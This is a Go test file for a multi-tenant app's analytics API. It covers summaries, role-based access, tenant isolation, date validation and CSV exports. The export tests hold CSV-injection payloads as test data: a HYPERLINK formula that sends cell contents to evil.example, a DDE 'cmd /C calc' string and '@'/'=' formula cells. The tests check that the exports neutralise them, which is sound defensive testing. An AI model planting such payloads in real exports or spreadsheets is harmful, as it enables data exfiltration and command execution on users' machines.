package analytics_test

import (
	"bytes"
	"errors"
	"math"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/core"

	"counterpart/hooks/analytics"
	"counterpart/hooks/apptest"
	"counterpart/hooks/usage"
)

// seed records a known set of events for both tenants in 2026-11-01..03 and rolls them up.
func seed(t *testing.T, e *env) (priceList *core.Record) {
	t.Helper()
	e.smith.Set("timezone", "Europe/Berlin")
	e.smith.Set("storage_quota_mb", 50)
	must(t, e.app.Save(e.smith))
	member, manager := e.user(t, "member@smith.example"), e.user(t, "manager@smith.example")
	docs, err := e.app.FindCollectionByNameOrId("documents")
	must(t, err)
	priceList = core.NewRecord(docs)
	priceList.Load(map[string]any{"tenant": e.smith.Id, "filename": "prices.csv", "title": "Price list 2026", "status": "ready", "size": 1000})
	must(t, e.app.Save(priceList))

	day2 := time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)
	day3 := time.Date(2026, 11, 3, 9, 0, 0, 0, time.UTC)
	const llm = "llama3.1:8b"
	for _, l := range []int64{100, 200, 300} {
		answer(t, e.app, e.smith.Id, member.Id, usage.KindAnswerCompleted, llm, l, day2, false, priceList.Id)
	}
	answer(t, e.app, e.smith.Id, member.Id, usage.KindAnswerCompleted, "retrieval-only", 20, day2, true, "deleteddoc00001")
	answer(t, e.app, e.smith.Id, member.Id, usage.KindAnswerFailed, "", 0, day2, false)
	answer(t, e.app, e.smith.Id, member.Id, usage.KindAnswerStopped, llm, 0, day2, false)
	answer(t, e.app, e.smith.Id, manager.Id, usage.KindAnswerCompleted, llm, 150, day3, false)
	for _, fb := range []string{"up", "up", "down"} {
		must(t, usage.Record(e.app, usage.Event{Tenant: e.smith.Id, Kind: usage.KindFeedback, User: member.Id, Feedback: fb, At: day2}))
	}
	for _, k := range []string{usage.KindDocumentUploaded, usage.KindDocumentProcessed, usage.KindDocumentFailed, usage.KindSignIn, usage.KindSignIn} {
		must(t, usage.Record(e.app, usage.Event{Tenant: e.smith.Id, Kind: k, User: member.Id, At: day3}))
	}
	jonesMember := e.user(t, "member@jones.example")
	for range 5 {
		answer(t, e.app, e.jones.Id, jonesMember.Id, usage.KindAnswerCompleted, "gpt-jones", 5000, day2, false)
	}
	must(t, usage.Rollup(e.app))
	return priceList
}

const novRange = "?from=2026-11-01&to=2026-11-03"

func TestTenantSummary(t *testing.T) {
	e := newEnv(t)
	priceList := seed(t, e)
	res := e.get(t, "/api/analytics"+novRange, "manager@smith.example")
	if res.Status != http.StatusOK {
		t.Fatalf("%d %s", res.Status, res.Body)
	}
	s := res.JSON
	if tn := obj(s, "tenant"); tn["id"] != e.smith.Id || tn["name"] != e.smith.GetString("name") || tn["timezone"] != "Europe/Berlin" {
		t.Errorf("tenant = %v", tn)
	}
	if s["from"] != "2026-11-01" || s["to"] != "2026-11-03" {
		t.Errorf("range = %v..%v", s["from"], s["to"])
	}
	totals := obj(s, "totals")
	want := map[string]float64{"questions": 7, "answers": 5, "failed": 1, "stopped": 1, "activeUsers": 2, "tokensIn": 70, "tokensOut": 35,
		"retrievalOnly": 1, "llm": 4, "feedbackUp": 2, "feedbackDown": 1, "uploads": 1, "processed": 1, "processingFailed": 1, "signIns": 2}
	for k, v := range want {
		if num(totals, k) != v {
			t.Errorf("totals.%s = %v, want %v", k, totals[k], v)
		}
	}
	if r := num(totals, "failureRate"); math.Abs(r-1.0/6) > 1e-9 {
		t.Errorf("failureRate = %v, want 1/6", r)
	}
	if r := num(totals, "feedbackRatio"); math.Abs(r-2.0/3) > 1e-9 {
		t.Errorf("feedbackRatio = %v, want 2/3", r)
	}
	// latencies 20, 100, 150, 200, 300: p50 is 150, p95 is 300, each within a bucket (±19%)
	if p := num(totals, "latencyP50Ms"); p < 150/1.19 || p > 150*1.19 {
		t.Errorf("p50 = %v, want ≈150", p)
	}
	if p := num(totals, "latencyP95Ms"); p < 300/1.19 || p > 300*1.19 {
		t.Errorf("p95 = %v, want ≈300", p)
	}
	days := list(s, "days")
	if len(days) != 3 || days[0]["day"] != "2026-11-01" || num(days[0], "questions") != 0 || num(days[1], "questions") != 6 ||
		num(days[2], "questions") != 1 || num(days[1], "activeUsers") != 1 || num(days[2], "latencyP50Ms") == 0 {
		t.Errorf("days = %v", days)
	}
	models := list(s, "models")
	if len(models) != 2 || models[0]["model"] != "llama3.1:8b" || num(models[0], "answers") != 4 || models[1]["model"] != "retrieval-only" {
		t.Errorf("models = %v", models)
	}
	docs := list(s, "topDocuments")
	if len(docs) != 2 || docs[0]["document"] != priceList.Id || docs[0]["title"] != "Price list 2026" || num(docs[0], "citations") != 3 ||
		docs[1]["deleted"] != true {
		t.Errorf("topDocuments = %v", docs)
	}
	users := list(s, "topUsers")
	if len(users) != 2 || users[0]["user"] != e.user(t, "member@smith.example").Id || num(users[0], "questions") != 6 || users[0]["name"] == "" {
		t.Errorf("topUsers = %v", users)
	}
	byStatus := obj(s, "documentsByStatus")
	for _, st := range []string{"pending_upload", "uploaded", "processing", "ready", "failed"} {
		if _, ok := byStatus[st]; !ok {
			t.Errorf("documentsByStatus lacks %s: %v", st, byStatus)
		}
	}
	if num(byStatus, "ready") < 1 {
		t.Errorf("documentsByStatus = %v", byStatus)
	}
	if st := obj(s, "storage"); num(st, "usedBytes") < 1000 || num(st, "quotaBytes") != 50<<20 {
		t.Errorf("storage = %v", st)
	}
	mq := obj(s, "messageQuota")
	if _, ok := mq["used"]; !ok || mq["resetsOn"] == "" {
		t.Errorf("messageQuota = %v", mq)
	}
	if _, ok := s["tenants"]; ok {
		t.Error("a tenant's summary must not list tenants")
	}
	if strings.Contains(string(res.Body), "gpt-jones") || strings.Contains(string(res.Body), e.jones.Id) {
		t.Error("tenant B's data leaks into tenant A's summary")
	}
}

func TestNoFeedbackRatioWithoutFeedback(t *testing.T) {
	e := newEnv(t)
	res := e.get(t, "/api/analytics", "admin@jones.example")
	if res.Status != http.StatusOK {
		t.Fatalf("%d %s", res.Status, res.Body)
	}
	totals := obj(res.JSON, "totals")
	if v, ok := totals["feedbackRatio"]; !ok || v != nil {
		t.Errorf("feedbackRatio = %v (present %v), want null", v, ok)
	}
	if len(list(res.JSON, "days")) != analytics.DefaultDays {
		t.Errorf("the default range has %d days, want %d", len(list(res.JSON, "days")), analytics.DefaultDays)
	}
	for _, key := range []string{"models", "topDocuments", "topUsers", "days"} {
		if _, ok := res.JSON[key].([]any); !ok {
			t.Errorf("%s must be a list even when empty: %v", key, res.JSON[key])
		}
	}
}

func TestBadRanges(t *testing.T) {
	e := newEnv(t)
	cases := []struct{ name, query, want string }{
		{"ten years", "?from=2016-01-01&to=2026-01-01", "at most 366 days"},
		{"reversed", "?from=2026-11-20&to=2026-11-01", "reversed"},
		{"malformed from", "?from=yesterday", "YYYY-MM-DD"},
		{"malformed to", "?to=2026-13-01", "YYYY-MM-DD"},
	}
	routes := []struct{ path, who string }{
		{"/api/analytics", "manager@smith.example"},
		{"/api/admin/analytics", "IT"},
		{"/api/analytics/export/usage.csv", "admin@smith.example"},
		{"/api/analytics/export/conversations.csv", "admin@smith.example"},
	}
	for _, r := range routes {
		for _, c := range cases {
			t.Run(r.path+"/"+c.name, func(t *testing.T) {
				res := e.get(t, r.path+c.query, r.who)
				if res.Status != http.StatusBadRequest || !strings.Contains(res.Message(), c.want) {
					t.Errorf("%d %q, want 400 with %q", res.Status, res.Message(), c.want)
				}
			})
		}
	}
	if err := analytics.WriteUsageCSV(e.app, &bytes.Buffer{}, e.smith.Id, "2026-11-20", "2026-11-01"); !errors.As(err, new(*analytics.RangeError)) {
		t.Errorf("WriteUsageCSV with a reversed range: %v", err)
	}
}

func TestAccess(t *testing.T) {
	e := newEnv(t)
	seed(t, e)
	cases := []struct {
		name, path, who string
		status          int
	}{
		{"guest", "/api/analytics", "", 401},
		{"member", "/api/analytics", "member@smith.example", 403},
		{"superuser uses the admin route", "/api/analytics", "IT", 403},
		{"manager", "/api/analytics", "manager@smith.example", 200},
		{"admin", "/api/analytics", "admin@smith.example", 200},
		{"manager naming another tenant", "/api/analytics?tenant=" + e.jones.Id, "manager@smith.example", 400},
		{"manager naming another tenant's slug", "/api/analytics?tenant=jones", "manager@smith.example", 400},
		{"manager naming their own tenant", "/api/analytics?tenant=smith", "manager@smith.example", 200},
		{"member export", "/api/analytics/export/usage.csv", "member@smith.example", 403},
		{"guest admin", "/api/admin/analytics", "", 401},
		{"tenant admin on the admin route", "/api/admin/analytics", "admin@smith.example", 403},
		{"IT", "/api/admin/analytics", "IT", 200},
		{"IT, unknown tenant", "/api/admin/analytics?tenant=nobody", "IT", 404},
		{"IT export without a tenant", "/api/admin/analytics/export/usage.csv", "IT", 400},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if res := e.get(t, c.path, c.who); res.Status != c.status {
				t.Errorf("%d %s, want %d", res.Status, res.Body, c.status)
			}
		})
	}

	// tenant B's manager gets B's numbers only
	res := e.get(t, "/api/analytics"+novRange, "manager@jones.example")
	totals := obj(res.JSON, "totals")
	if obj(res.JSON, "tenant")["id"] != e.jones.Id || num(totals, "questions") != 5 || num(totals, "feedbackUp") != 0 {
		t.Errorf("B's manager: tenant %v totals %v", obj(res.JSON, "tenant"), totals)
	}
	if strings.Contains(string(res.Body), "llama3.1:8b") || strings.Contains(string(res.Body), e.user(t, "member@smith.example").Id) {
		t.Error("tenant A's data leaks into tenant B's summary")
	}
}

func TestAdminSummary(t *testing.T) {
	e := newEnv(t)
	seed(t, e)
	res := e.get(t, "/api/admin/analytics"+novRange, "IT")
	if res.Status != http.StatusOK {
		t.Fatalf("%d %s", res.Status, res.Body)
	}
	if v, ok := res.JSON["tenant"]; !ok || v != nil {
		t.Errorf("the all-tenants view has tenant %v, want null", v)
	}
	if q := num(obj(res.JSON, "totals"), "questions"); q != 12 {
		t.Errorf("all tenants: %v questions, want 12", q)
	}
	lines := list(res.JSON, "tenants")
	byID := map[string]map[string]any{}
	for _, l := range lines {
		byID[l["id"].(string)] = l
	}
	if num(byID[e.smith.Id], "questions") != 7 || num(byID[e.jones.Id], "questions") != 5 || num(byID[e.smith.Id], "storageUsedBytes") < 1000 {
		t.Errorf("tenant lines = %v", lines)
	}
	for _, l := range lines {
		for _, k := range []string{"id", "name", "questions", "activeUsers", "failureRate", "tokensIn", "tokensOut", "storageUsedBytes"} {
			if _, ok := l[k]; !ok {
				t.Errorf("tenant line lacks %s: %v", k, l)
			}
		}
	}
	one := e.get(t, "/api/admin/analytics"+novRange+"&tenant=jones", "IT")
	if obj(one.JSON, "tenant")["id"] != e.jones.Id || num(obj(one.JSON, "totals"), "questions") != 5 {
		t.Errorf("IT, one tenant: %s", one.Body)
	}
}

func TestExportUsage(t *testing.T) {
	e := newEnv(t)
	seed(t, e)
	member := e.user(t, "member@smith.example")
	member.Set("name", `=HYPERLINK("http://evil.example/?"&A1,"Pat")`)
	must(t, e.app.Save(member))
	must(t, usage.Record(e.app, usage.Event{Tenant: e.smith.Id, Kind: usage.KindAnswerCompleted, User: member.Id,
		Model: "+cmd|' /C calc'!A0", At: time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)}))
	must(t, usage.Rollup(e.app))

	res, rows := e.download(t, "/api/analytics/export/usage.csv"+novRange, "manager@smith.example")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	if cd := res.Header.Get("Content-Disposition"); cd != `attachment; filename="counterpart-usage-smith-2026-11-01-to-2026-11-03.csv"` {
		t.Errorf("Content-Disposition = %q", cd)
	}
	if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Errorf("Content-Type = %q", res.Header.Get("Content-Type"))
	}
	if !slices.Equal(rows[0], analytics.UsageHeader) {
		t.Fatalf("header = %v", rows[0])
	}
	var questions int
	for _, r := range rows[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("a cell starts a formula: %q", c)
			}
		}
		if r[1] == member.Id && r[2] != `'=HYPERLINK("http://evil.example/?"&A1,"Pat")` {
			t.Errorf("user name not neutralised: %q", r[2])
		}
		n := 0
		for _, ch := range r[4] {
			n = n*10 + int(ch-'0')
		}
		questions += n
	}
	if !contains(rows, "'+cmd|' /C calc'!A0") {
		t.Error("the model cell was not neutralised")
	}
	if questions != 8 {
		t.Errorf("the rows hold %d questions, want 8", questions)
	}
	if contains(rows, "gpt-jones") {
		t.Error("tenant B's rows in tenant A's export")
	}
	manager := e.user(t, "manager@smith.example")
	n, err := e.app.CountRecords(usage.Events, dbx.HashExp{"kind": usage.KindExport, "user": manager.Id, "tenant": e.smith.Id})
	must(t, err)
	if n != 1 {
		t.Errorf("%d export events, want 1", n)
	}

	// the function the reports use writes the same rows
	var buf bytes.Buffer
	must(t, analytics.WriteUsageCSV(e.app, &buf, e.smith.Id, "2026-11-01", "2026-11-03"))
	if got := strings.Count(buf.String(), "\n"); got != len(rows) {
		t.Errorf("WriteUsageCSV wrote %d lines, the route %d", got, len(rows))
	}

	// IT's variant
	res, itRows := e.download(t, "/api/admin/analytics/export/usage.csv"+novRange+"&tenant=smith", apptest.Superuser(t, e.app))
	if res.StatusCode != http.StatusOK || len(itRows) != len(rows) {
		t.Errorf("IT export: %d, %d rows", res.StatusCode, len(itRows))
	}
}

func TestExportConversationsHidesTextUnlessAllowed(t *testing.T) {
	e := newEnv(t)
	member := e.user(t, "member@smith.example")
	convs, err := e.app.FindCollectionByNameOrId("conversations")
	must(t, err)
	conv := core.NewRecord(convs)
	conv.Load(map[string]any{"tenant": e.smith.Id, "user": member.Id, "title": "@SUM(1+1)*cmd"})
	must(t, e.app.Save(conv))
	msgs, err := e.app.FindCollectionByNameOrId("messages")
	must(t, err)
	for _, m := range []map[string]any{
		{"role": "user", "status": "complete", "content": "=1+1 the secret question"},
		{"role": "assistant", "status": "complete", "content": "the secret answer", "feedback": "up"},
		{"role": "user", "status": "complete", "content": "again"},
		{"role": "assistant", "status": "failed", "content": ""},
	} {
		r := core.NewRecord(msgs)
		r.Load(m)
		r.Load(map[string]any{"tenant": e.smith.Id, "conversation": conv.Id, "user": member.Id})
		must(t, e.app.Save(r))
	}
	jonesConv := core.NewRecord(convs)
	jonesConv.Load(map[string]any{"tenant": e.jones.Id, "user": e.user(t, "member@jones.example").Id, "title": "jones private"})
	must(t, e.app.Save(jonesConv))

	res, rows := e.download(t, "/api/analytics/export/conversations.csv", "manager@smith.example")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	if !slices.Equal(rows[0], analytics.ConversationsHeader) {
		t.Fatalf("header = %v", rows[0])
	}
	if contains(rows, "secret") {
		t.Error("message text exported although the tenant does not allow it")
	}
	if contains(rows, "jones private") {
		t.Error("tenant B's conversation in tenant A's export")
	}
	if len(rows) != 2 || rows[1][0] != conv.Id || rows[1][3] != "'@SUM(1+1)*cmd" ||
		!slices.Equal(rows[1][6:], []string{"2", "1", "1", "1", "0"}) {
		t.Errorf("rows = %v", rows)
	}

	// only the tenant admin may allow text
	body := map[string]any{"export_message_text": true}
	if r := apptest.Do(t, e.srv, "PATCH", "/api/collections/tenants/records/"+e.smith.Id, apptest.Token(t, e.app, "manager@smith.example"), body); r.Status == 200 {
		t.Fatal("a manager switched on message text in exports")
	}
	if r := apptest.Do(t, e.srv, "PATCH", "/api/collections/tenants/records/"+e.smith.Id, apptest.Token(t, e.app, "admin@smith.example"), body); r.Status != 200 {
		t.Fatalf("the admin allows text: %d %s", r.Status, r.Body)
	}
	_, rows = e.download(t, "/api/analytics/export/conversations.csv", "manager@smith.example")
	if !slices.Equal(rows[0], analytics.MessagesHeader) || len(rows) != 5 {
		t.Fatalf("with text: %v", rows)
	}
	if !contains(rows, "the secret answer") || !contains(rows, "'=1+1 the secret question") {
		t.Errorf("text missing or not neutralised: %v", rows)
	}
}

func TestChatAnswerReachesTheSummary(t *testing.T) {
	e := newEnv(t)
	tok := apptest.Token(t, e.app, "member@smith.example")
	member := e.user(t, "member@smith.example")
	conv := apptest.Do(t, e.srv, "POST", "/api/collections/conversations/records", tok, map[string]any{"tenant": e.smith.Id, "user": member.Id})
	if conv.Status != 200 {
		t.Fatalf("conversation: %d %s", conv.Status, conv.Body)
	}
	res := apptest.Do(t, e.srv, "POST", "/api/chat/conversations/"+conv.JSON["id"].(string)+"/messages", tok, map[string]any{"content": "oil filter price"})
	if res.Status != 200 {
		t.Fatalf("ask: %d %s", res.Status, res.Body)
	}
	must(t, usage.Rollup(e.app))
	s, err := analytics.Summarize(e.app, e.smith.Id, "", "")
	must(t, err)
	if s.Totals.Questions != 1 || s.Totals.Answers != 1 || s.Totals.RetrievalOnly != 1 || s.Totals.ActiveUsers != 1 || s.MessageQuota.Used < 1 {
		t.Errorf("after one retrieval-only answer: %+v, quota %+v", s.Totals, s.MessageQuota)
	}
	if len(s.TopUsers) != 1 || s.TopUsers[0].User != member.Id {
		t.Errorf("top users = %+v", s.TopUsers)
	}
}
